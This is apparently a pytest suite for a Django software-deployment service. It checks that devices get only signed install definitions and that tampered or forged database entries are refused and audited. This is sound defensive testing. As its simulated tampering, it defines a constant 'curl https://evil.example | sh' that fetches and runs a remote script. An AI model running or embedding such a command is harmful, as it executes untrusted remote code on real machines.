"""What devices get is what was signed, whatever the database says; what a device refuses is written down (R20, R21)."""

from __future__ import annotations

from contextlib import suppress

import pytest
from django.db import connection
from django.utils import timezone

from applications.authoring.applications import save_application
from applications.authoring.deployment_types import delete_type, save_type
from applications.authoring.saving import SaveRefused
from applications.authoring.signatures import put_back, sign_as_it_stands
from applications.models import Application, DeploymentType, Report, Request, Revision
from applications.requests import asking
from applications.requests.claiming import claim
from applications.requests.refusals import MAX_WRITTEN
from applications.revisions import definitions, orders
from applications.revisions.definitions import type_of
from applications.rules.reasons import Reason
from applications.rules.words import Action
from audit.models import AuditEntry
from signing.envelope import digest
from tests import opened
from tests.make import deploy, make_application, make_collection, make_device, make_group, make_type, make_user

pytestmark = pytest.mark.django_db
EVIL = "curl https://evil.example | sh"


@pytest.fixture
def device():
    return make_device("LT-AMS-0421", secret="secret")


@pytest.fixture
def application(device):
    application = make_application("GIMP")
    deploy(application, make_collection("Office", device), approval=True)
    return application


@pytest.fixture
def admin():
    return make_user(superuser=True)


def refuse(client, request, code, **facts):
    body = {"request": str(request.pk), "detail": {"code": code, "facts": facts}}
    headers = {"Authorization": "Bearer secret"}
    answer = client.post("/client/v1/refusals", body, content_type="application/json", headers=headers)
    assert (answer.status_code, answer.json()) == (200, {})


def ask(admin, device, application, action=Action.INSTALL):
    return asking.ask(admin, device, application, action, now=timezone.now())[0]


def delivered(device):
    claim([device.pk], timezone.now())
    return [message for _, message in orders.as_delivered(Request.objects.filter(device=device))]


def change_behind_the_consoles_back(application):
    DeploymentType.objects.filter(application=application).update(install_command=EVIL)


def test_a_command_changed_in_the_database_is_not_what_devices_get(admin, device, application):
    change_behind_the_consoles_back(application)
    ask(admin, device, application)
    (message,) = delivered(device)
    assert EVIL not in str(message)
    assert opened.request(message)["steps"][0]["deployment_types"][0]["install"] == "true"


def test_it_is_not_signed_by_the_next_harmless_change_either(admin, application):
    change_behind_the_consoles_back(application)
    each = application.deployment_types.get()
    each.name = "Renamed"
    with pytest.raises(SaveRefused):
        save_type(each, user=admin)
    assert Revision.objects.filter(application=application).count() == 1


def in_between(application, statement, do):
    """Does something behind the console's back right before the first statement that begins so."""
    done = []

    def wrap(execute, sql, params, many, context):
        if not done and sql.startswith(statement):
            done.append(sql)
            do()
        return execute(sql, params, many, context)

    return connection.execute_wrapper(wrap)


SAVES = {
    "a deployment type": (
        'UPDATE "applications_deploymenttype"',
        lambda application, **by: save_type(application.deployment_types.last(), **by),
    ),
    "another one": (
        'UPDATE "applications_deploymenttype"',
        lambda application, **by: save_type(application.deployment_types.first(), **by),
    ),
    "a deployment type that goes": (
        'DELETE FROM "applications_deploymenttype"',
        lambda application, **by: delete_type(application.deployment_types.last(), **by),
    ),
    "the application": (
        'UPDATE "applications_application"',
        lambda application, **by: save_application(application, **by),
    ),
}


@pytest.mark.parametrize("what", SAVES)
def test_what_somebody_changes_between_the_look_and_the_save_is_not_signed(admin, application, what):
    make_type(application, priority=2)
    statement, save = SAVES[what]
    application.description = "A harmless change"
    first = DeploymentType.objects.filter(pk=application.deployment_types.first().pk)
    with in_between(application, statement, lambda: first.update(uninstall_command=EVIL)), suppress(SaveRefused):
        save(application, user=admin)  # refused, or saved over it
    assert all(EVIL not in str(revision.envelope) for revision in Revision.objects.all())


def test_what_the_database_itself_makes_of_a_save_is_not_signed(admin, application):
    """A trigger that somebody put there: it changes the very row that is saved."""
    each = application.deployment_types.get()

    def tampering(row):
        DeploymentType.objects.filter(pk=row.pk).update(install_command=EVIL)
        return type_of(row)

    with pytest.MonkeyPatch.context() as patch:
        patch.setattr("applications.authoring.deployment_types.type_of", tampering)
        with pytest.raises(SaveRefused):
            save_type(each, user=admin)
    assert Revision.objects.filter(application=application).count() == 1


def test_it_is_put_back_as_it_was_signed(admin, application):
    before = definitions.definition_of(application)
    change_behind_the_consoles_back(application)
    application.deployment_types.update(detection={"kind": "file", "path": "/"})
    Application.objects.filter(pk=application.pk).update(name="GIMQ", revision=None)
    put_back(application, user=admin)
    assert definitions.definition_of(application) == before
    assert definitions.stands_as_signed(application)


def test_a_revision_written_into_the_database_is_nobodys(admin, device, application):
    change_behind_the_consoles_back(application)
    genuine = application.revision
    forged = Revision.objects.create(
        application=application,
        number=2,
        envelope={**genuine.envelope, "signed": genuine.envelope["signed"].replace('"true"', f'"{EVIL}"')},
        created_at=timezone.now(),
        author="admin",
    )
    Application.objects.filter(pk=application.pk).update(revision=forged)
    assert not definitions.stands_as_signed(application)
    assert definitions.genuine(application) == genuine
    put_back(application, user=admin)
    assert definitions.newest(application).number == 3, "a number is given once"
    each = application.deployment_types.get()
    each.uninstall_command = "false"
    save_type(each, user=admin)
    assert definitions.stands_as_signed(Application.objects.get())


def test_who_signs_what_stands_there_signs_what_they_saw(admin, application):
    change_behind_the_consoles_back(application)
    seen = digest(definitions.definition_of(application))
    application.deployment_types.update(install_command=f"{EVIL} twice")
    with pytest.raises(SaveRefused):
        sign_as_it_stands(application, seen, user=admin)
    sign_as_it_stands(application, digest(definitions.definition_of(application)), user=admin)
    assert definitions.newest(application).author == admin.username


@pytest.mark.parametrize("action", Action)
def test_what_is_not_signed_cannot_be_asked_for(admin, device, application, action):
    """R4: the reason is said; of a group too, which would run it."""
    unsign(application)
    group = make_group("Office tools", application)
    deploy(group, make_collection("Others", device), approval=True)
    for asked in (application, group):
        with pytest.raises(asking.ActionRefused) as refused:
            ask(admin, device, asked, action)
        assert refused.value.verdict.reason == Reason.NOT_SIGNED


def test_what_is_not_signed_any_more_is_not_delivered(admin, device, application):
    request = ask(admin, device, application)
    unsign(application)
    assert delivered(device) == []
    request.refresh_from_db()
    assert (request.state, request.reason) == ("withdrawn", "not_signed")


def unsign(application):
    Application.objects.filter(pk=application.pk).update(revision=None)
    application.refresh_from_db()


def test_what_a_device_refuses_has_failed_and_is_in_the_audit_log(client, admin, device, application):
    request = ask(admin, device, application)
    delivered(device)
    detail = {"code": "signature_wrong", "facts": {}}
    for _ in range(2):
        refuse(client, request, "signature_wrong")
    request.refresh_from_db()
    assert (request.state, request.reason, request.facts) == ("failed", "device_refused", {"detail": detail})
    report = Report.objects.get()
    assert (report.found, report.reason) == ("failed", "device_refused")
    entry = AuditEntry.objects.filter(verb="device_refused").first()
    assert (entry.actor, entry.object_id, entry.facts["detail"]) == (device.name, str(request.pk), detail)


def test_what_was_overtaken_while_it_was_delivered_is_delivered_as_it_is_now(client, admin, device, application):
    request = ask(admin, device, application)
    delivered(device)
    each = application.deployment_types.get()
    each.install_command = "echo new"
    save_type(each, user=admin)
    refuse(client, request, "revision_older", application="GIMP", found=1, newest=2)
    (message,) = delivered(device)
    assert opened.request(message)["steps"][0]["deployment_types"][0]["install"] == "echo new"


def test_a_replay_is_written_down_and_changes_nothing(client, admin, device, application):
    request = ask(admin, device, application)
    delivered(device)
    refuse(client, request, "order_replayed")
    request.refresh_from_db()
    assert request.state == "sent"
    assert AuditEntry.objects.filter(verb="device_refused").count() == 1


def test_a_device_fails_its_own_requests_only_and_does_not_fill_the_log(client, admin, device, application):
    other = make_device("LT-2")
    deploy(application, make_collection("More", other), approval=True)
    request = ask(admin, other, application)
    claim([other.pk], timezone.now())
    for _ in range(MAX_WRITTEN + 3):
        refuse(client, request, "not_signed")
    request.refresh_from_db()
    assert request.state == "sent"
    assert AuditEntry.objects.filter(verb="device_refused", kind="device").count() == MAX_WRITTEN
